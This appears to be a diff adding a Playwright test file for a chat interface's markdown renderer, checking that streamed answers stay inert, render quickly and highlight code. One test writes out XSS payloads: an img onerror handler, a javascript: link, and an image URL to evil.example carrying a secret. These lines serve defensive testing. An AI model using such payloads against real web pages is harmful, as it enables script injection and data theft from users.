@@ -1,0 +1,105 @@
+"""What an answer can be: markdown that grows, and never more than text, nodes and links."""
+
+from __future__ import annotations
+
+import pytest
+from playwright.async_api import expect
+
+from tests.browser import HOSTILE, IN_PAGE, ROOT, SAMPLES, NewPage, ask, ended, in_chromium
+from tests.paths.conftest import Shared
+
+pytestmark = in_chromium
+
+
+DRAW = (IN_PAGE / "draw.js").read_text()
+
+FOUND = (IN_PAGE / "found.js").read_text()
+
+
+@pytest.mark.parametrize("chunk", [0, 1, 7])
+async def test_no_answer_runs_or_loads_anything(
+    shared: Shared, open_page: NewPage, chunk: int
+) -> None:
+    page = await open_page(shared.server.url)
+    await page.evaluate(DRAW, [HOSTILE, chunk])
+    await page.wait_for_timeout(300)
+    assert [] == await page.evaluate(FOUND)
+    assert await page.evaluate("window.pwned === undefined")
+
+
+async def test_a_hostile_answer_through_the_whole_system(
+    shared: Shared, open_page: NewPage
+) -> None:
+    page = await open_page(shared.server.url)
+    await ask(
+        page,
+        shared.prompt(
+            "say=<img_src=x_onerror=window.pwned=1>__![x](https://evil.example/?q=secret)"
+            "[y](javascript:window.pwned=1)"
+        ),
+    )
+    text = await ended(page)
+    assert "<img src=x onerror=window.pwned=1>" in text
+    assert "Image: x (evil.example)" in text
+    assert 1 == await page.locator("article.answer a").count()
+    await page.wait_for_timeout(200)
+    assert await page.evaluate("window.pwned === undefined")
+
+
+async def test_an_answer_nested_without_end_stops_nothing(
+    shared: Shared, open_page: NewPage
+) -> None:
+    page = await open_page(shared.server.url)
+    deep = [">" * 20_000, "- " * 5_000, "[" * 20_000, "*a " * 10_000, "`" * 20_001, "<" * 20_000]
+    began = await page.evaluate("performance.now()")
+    await page.evaluate(DRAW, [deep, 0])
+    assert await page.evaluate("performance.now()") - began < 10_000
+
+
+DOCUMENT = (ROOT / "docs" / "protocol.md").read_text()
+
+
+@pytest.mark.parametrize("chunk", [1, 3, 50])
+async def test_what_grew_is_what_is_drawn_at_once(
+    shared: Shared, open_page: NewPage, chunk: int
+) -> None:
+    page = await open_page(shared.server.url)
+    samples = [*SAMPLES, DOCUMENT[:6_000]]
+    grown = await page.evaluate(DRAW, [samples, chunk])
+    assert await page.evaluate(DRAW, [samples, 0]) == grown
+
+
+async def test_finished_blocks_are_never_touched_again(shared: Shared, open_page: NewPage) -> None:
+    page = await open_page(shared.server.url)
+    removed = await page.evaluate(
+        """async text => {
+          const { Markdown } = await import("/web/markdown.js");
+          const { STATUS } = await import("/web/status.js");
+          const place = document.createElement("div");
+          document.body.append(place);
+          const markdown = new Markdown(place, STATUS);
+          let added = 0, removed = 0;
+          const observer = new MutationObserver(records => records.forEach(record => {
+            added += record.addedNodes.length;
+            removed += record.removedNodes.length;
+          }));
+          observer.observe(place, { childList: true, subtree: true });
+          for (let end = 0; end < text.length; end += 5) {
+            markdown.show(text.slice(0, end), false);
+            await null;
+          }
+          markdown.show(text, true);
+          await new Promise(done => setTimeout(done));
+          return removed / added;
+        }""",
+        SAMPLES[0] * 3 + SAMPLES[2],
+    )
+    assert removed < 0.35
+
+
+async def test_code_gets_its_colours_when_it_is_whole(shared: Shared, open_page: NewPage) -> None:
+    page = await open_page(shared.server.url)
+    await page.evaluate(DRAW, [["```python\ndef f():\n    return 'x'\n```\n"], 1])
+    code = page.locator("body > div:last-child code.code-text")
+    await expect(code.locator(".hl-keyword").first).to_have_text("def")
+    assert "def f():\n    return 'x'" == await code.inner_text()
